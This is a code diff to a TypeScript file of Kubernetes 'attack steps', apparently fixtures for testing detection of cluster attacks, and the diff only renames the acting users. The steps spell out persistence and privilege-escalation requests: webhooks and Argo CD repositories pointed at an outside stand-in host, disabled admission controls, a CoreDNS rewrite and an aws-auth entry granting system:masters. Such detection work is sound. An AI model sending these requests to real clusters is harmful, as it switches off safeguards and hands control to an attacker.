@@ -1,10 +1,8 @@
+import { attack } from '../ask.ts';
 import { admission, service, webhookConfiguration } from '../objects.ts';
-import { asks, attack } from '../second/ask.ts';
 import type { AttackStep } from '../step.ts';
+import { svetlana, svetlanaCurl, tomas } from './attackers.ts';
 
-const admin = asks('svetlana', 'kubectl/v1.27.3 (windows/amd64) kubernetes/25b4e43');
-const curl = asks('svetlana', 'curl/8.5.0');
-const tomas = asks('tomas', 'kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc');
 const core = '/api/v1';
 const system = `${core}/namespaces/kube-system`;
 const web = `${core}/namespaces/web`;
@@ -22,7 +20,7 @@ const control = attack(
   'persistence',
   [
     'PS02',
-    admin.post(
+    svetlana.post(
       'sees every pod',
       `${admission}/mutatingwebhookconfigurations`,
       webhookConfiguration('Mutating', 'pod-defaults', hook('pod-defaults', { url: 'https://198.51.100.7/m' })),
@@ -30,27 +28,27 @@ const control = attack(
   ],
   [
     'PS02 N19',
-    admin.json('gate opens when it fails', `${admission}/validatingwebhookconfigurations/gatekeeper`, [
+    svetlana.json('gate opens when it fails', `${admission}/validatingwebhookconfigurations/gatekeeper`, [
       { op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' },
     ]),
   ],
-  ['PS02', admin.remove('gate removed', `${admission}/validatingwebhookconfigurations/gatekeeper`)],
-  ['N21', admin.remove('policy unbound', `${admission}/validatingadmissionpolicybindings/baseline`)],
+  ['PS02', svetlana.remove('gate removed', `${admission}/validatingwebhookconfigurations/gatekeeper`)],
+  ['N21', svetlana.remove('policy unbound', `${admission}/validatingadmissionpolicybindings/baseline`)],
   [
     'N20',
-    admin.merge('namespace lets everything in', `${core}/namespaces/guarded`, {
+    svetlana.merge('namespace lets everything in', `${core}/namespaces/guarded`, {
       metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
     }),
   ],
   [
     'N20',
-    admin.merge('namespace not guarded any more', `${core}/namespaces/guarded`, {
+    svetlana.merge('namespace not guarded any more', `${core}/namespaces/guarded`, {
       metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } },
     }),
   ],
   [
     'N22',
-    admin.post('API answered elsewhere', '/apis/apiregistration.k8s.io/v1/apiservices', {
+    svetlana.post('API answered elsewhere', '/apis/apiregistration.k8s.io/v1/apiservices', {
       apiVersion: 'apiregistration.k8s.io/v1',
       kind: 'APIService',
       metadata: { name: 'v1beta1.metrics.example.com' },
@@ -66,7 +64,7 @@ const control = attack(
   ],
   [
     'N22',
-    admin.merge(
+    svetlana.merge(
       'objects converted elsewhere',
       '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/applications.argoproj.io',
       {
@@ -81,33 +79,33 @@ const control = attack(
   ],
   [
     'LM01',
-    admin.merge('names answered elsewhere', `${system}/configmaps/coredns`, {
+    svetlana.merge('names answered elsewhere', `${system}/configmaps/coredns`, {
       data: { Corefile: '.:53 { rewrite name api.example.com x.example.org\n forward . 198.51.100.7 }' },
     }),
   ],
   [
     'IA14',
-    admin.merge('role of a cloud is master', `${system}/configmaps/aws-auth`, {
+    svetlana.merge('role of a cloud is master', `${system}/configmaps/aws-auth`, {
       data: { mapUsers: '- userarn: arn:aws:iam::111122223333:user/x\n  groups: [system:masters]\n' },
     }),
   ],
-  ['PS12', admin.post('port on every node', `${web}/services`, service('shell', { type: 'NodePort' }))],
+  ['PS12', svetlana.post('port on every node', `${web}/services`, service('shell', { type: 'NodePort' }))],
   [
     'IA12 PS12',
-    admin.merge('dashboard for all', `${core}/namespaces/kubernetes-dashboard/services/kubernetes-dashboard`, {
+    svetlana.merge('dashboard for all', `${core}/namespaces/kubernetes-dashboard/services/kubernetes-dashboard`, {
       spec: { type: 'LoadBalancer' },
     }),
   ],
-  ['PS13', admin.post('address of others', `${web}/services`, service('steals', { externalIPs: ['198.51.100.53'] }))],
+  ['PS13', svetlana.post('address of others', `${web}/services`, service('steals', { externalIPs: ['198.51.100.53'] }))],
   [
     'PS13 PE24',
-    curl.merge('address through the status', `${web}/services/balanced/status`, {
+    svetlanaCurl.merge('address through the status', `${web}/services/balanced/status`, {
       status: { loadBalancer: { ingress: [{ ip: '198.51.100.54' }] } },
     }),
   ],
   [
     'PS14',
-    admin.post('open to the world', '/apis/networking.k8s.io/v1/namespaces/web/ingresses', {
+    svetlana.post('open to the world', '/apis/networking.k8s.io/v1/namespaces/web/ingresses', {
       apiVersion: 'networking.k8s.io/v1',
       kind: 'Ingress',
       metadata: { name: 'open' },
@@ -149,7 +147,7 @@ const control = attack(
   ],
   [
     'PE02',
-    admin.post('volume of the whole node', `${core}/persistentvolumes`, {
+    svetlana.post('volume of the whole node', `${core}/persistentvolumes`, {
       apiVersion: 'v1',
       kind: 'PersistentVolume',
       metadata: { name: 'scratch' },
@@ -158,7 +156,7 @@ const control = attack(
   ],
   [
     'N01 LM02',
-    admin.merge('application of Argo CD', '/apis/argoproj.io/v1/namespaces/argocd/applications/shop', {
+    svetlana.merge('application of Argo CD', '/apis/argoproj.io/v1/namespaces/argocd/applications/shop', {
       spec: { source: { repoURL: 'https://198.51.100.7/x.git' } },
     }),
   ],
